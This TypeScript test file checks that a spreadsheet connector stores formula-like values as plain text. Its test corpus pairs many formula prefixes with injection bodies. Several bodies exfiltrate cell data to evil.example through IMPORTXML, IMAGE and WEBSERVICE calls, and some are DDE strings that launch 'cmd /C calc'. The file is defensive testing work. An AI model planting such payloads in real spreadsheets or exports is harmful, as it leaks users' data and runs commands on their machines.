import { afterEach, expect, it } from "vitest";
import type { Value } from "@/lib/engine/value";
import type { WriteOperation } from "../connector";
import { NO_DEADLINE, readAll, written } from "../contract-session.test-kit";
import { openStock, type Stock } from "./stock.test-kit";

let stock: Stock;
afterEach(() => stock.dispose());

/** What makes a spreadsheet compute, fetch or start something when it is typed. */
const STARTS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  " =",
  "\u00a0=",
  "\u200b=",
  "\ufeff=",
  "\uff1d",
  "\uff0b",
  "\uff0d",
  "\uff20",
  "'=",
  "''=",
  '"=',
  "{=",
  "==",
  "=-",
  "=+",
  "=@",
  "=\n",
];
const BODIES = [
  "1+1",
  "A1",
  'IMPORTXML("https://evil.example/?"&A1,"//a")',
  'IMPORTDATA("https://evil.example/"&A2)',
  'IMPORTRANGE("key","A1:Z99")',
  'IMAGE("https://evil.example/"&A1)',
  'HYPERLINK("https://evil.example/?"&A1,"click")',
  'WEBSERVICE("https://evil.example")',
  'GOOGLEFINANCE("GOOG")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"!A0")',
  "SUM(1,1)*cmd|' /C calc'!A0",
  "ARRAYFORMULA(A1:A9)",
  "IFERROR(1/0,1)",
  "2024-01-01",
  "50%",
];

const PAYLOADS = [
  ...STARTS.flatMap((start) => BODIES.map((body) => start + body)),
  "TRUE",
  "00123",
  "1e5",
  "1/2",
  "12:30",
  "$1,000.00",
  "2024-02-29",
  "#REF!",
  "https://evil.example",
];

it("texts that would compute stay texts, as keys too, made or changed", { timeout: 60_000 }, async () => {
  stock = await openStock([], ["text"]);
  const side = stock.side();
  await readAll(side);
  const field = stock.config.mapped[2]?.field.id ?? "";
  const codes = PAYLOADS.filter((payload) => side.project("code", payload).ok);
  expect(codes.length).toBeGreaterThanOrEqual(390);
  const cellsOf = (code: string): Record<string, Value> => ({ code, name: code, [field]: "plain" });
  const made = codes.map((code): WriteOperation => ({ op: "create", id: code, cells: cellsOf(code) }));
  const outcomes = await written(side, made);
  expect(outcomes.map(({ outcome }) => outcome)).toEqual(codes.map(() => "done"));
  const changes = codes.map((code): WriteOperation => {
    return {
      op: "update",
      id: code,
      locator: JSON.stringify([code]),
      cells: { [field]: code },
      expect: { [field]: "plain" },
    };
  });
  expect((await side.write(changes, NO_DEADLINE)).written.map(({ outcome }) => outcome)).toEqual(
    codes.map(() => "done"),
  );
  expect(await entered()).toEqual(codes.map((code) => [code, code, code]));
});

/** What was entered in each cell below the header, as the API tells it; anything but a text is shown whole. */
async function entered(): Promise<unknown[][]> {
  const { data } = await stock.desk.at.sheets(stock.desk.accessToken).spreadsheets.get({
    spreadsheetId: stock.spreadsheetId,
    includeGridData: true,
  });
  const rows = data.sheets?.[0]?.data?.[0]?.rowData ?? [];
  return rows
    .slice(1)
    .map(({ values }) =>
      (values ?? [])
        .slice(0, 3)
        .map(({ userEnteredValue }) => userEnteredValue?.stringValue ?? userEnteredValue),
    )
    .filter((cells) => cells.some((cell) => cell !== undefined));
}
